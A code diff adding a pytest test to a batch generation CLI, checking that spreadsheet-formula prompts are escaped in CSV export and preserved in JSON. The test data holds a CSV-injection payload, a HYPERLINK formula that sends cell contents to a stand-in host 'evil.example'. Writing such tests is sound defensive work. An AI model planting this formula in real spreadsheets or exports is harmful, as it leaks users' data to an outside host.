@@ -10,6 +10,7 @@ from pathlib import Path
 
 import pytest
 from PIL import Image
+from runner_helpers import make_images, run_cli, write_manifest
 from test_review import build_takes_batch
 
 from batchgen.cli import main
@@ -144,3 +145,18 @@ def test_the_output_folder_itself_is_not_a_delivery_folder(picked, capsys):
     assert main(["export", str(picked), "--to", str(picked.parent)]) == 2
     assert "is the batch's own output folder" in capsys.readouterr().err
     assert not (picked.parent / "index.json").exists()
+
+
+def test_a_prompt_a_spreadsheet_would_run_is_plain_text_in_the_csv_and_exact_in_the_json(make_sim, tmp_path,
+                                                                                          monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    make_images(tmp_path / "img", 2)
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)"]
+    write_manifest(tmp_path, [{"image": f"img/shot0{i}.png", "prompt": text, "duration": 4}
+                              for i, text in enumerate(formulas)])
+    assert run_cli(make_sim(), tmp_path / "batch.yaml", tmp_path / "out") == 0
+    dest = tmp_path / "delivery"
+    assert export(tmp_path / "out" / "state.jsonl", dest, everything=True).problems == []
+    with open(dest / "index.csv", newline="") as handle:
+        assert [row["prompt"] for row in csv.DictReader(handle)] == ["'" + text for text in formulas]
+    assert [v["prompt"] for v in json.loads((dest / "index.json").read_text())["videos"]] == formulas
